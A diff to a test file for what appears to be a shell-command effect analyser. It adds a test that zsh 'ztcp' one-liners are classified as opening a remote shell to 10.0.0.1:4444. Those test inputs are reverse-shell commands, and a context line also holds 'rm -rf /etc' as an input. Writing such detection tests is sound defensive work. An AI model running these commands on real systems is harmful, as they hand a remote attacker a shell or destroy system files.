@@ -145,6 +145,17 @@ describe('declarations', () => {
   })
 })
 
+test('`ztcp` of zsh opens a connection', () => {
+  const joined = [
+    'connect:tunnel 10.0.0.1:4444',
+    'execute:download standard input as shell',
+    'execute:remote-shell a shell joined to the network',
+  ]
+  expect(effectLines('ztcp 10.0.0.1 4444; zsh <&$REPLY >&$REPLY')).toEqual(expect.arrayContaining(joined))
+  expect(effectLines('ztcp -d 3 10.0.0.1 4444; zsh <&3 >&3')).toEqual(expect.arrayContaining(joined))
+  expect(effectLines('ztcp -l 4444')).toEqual(['unknown: a connection of which only running shows where it leads'])
+})
+
 describe('unset', () => {
   test.each<Row>([
     ['a function', 'rm() { :; }; unset -f rm; rm -rf /etc', ['delete /etc']],
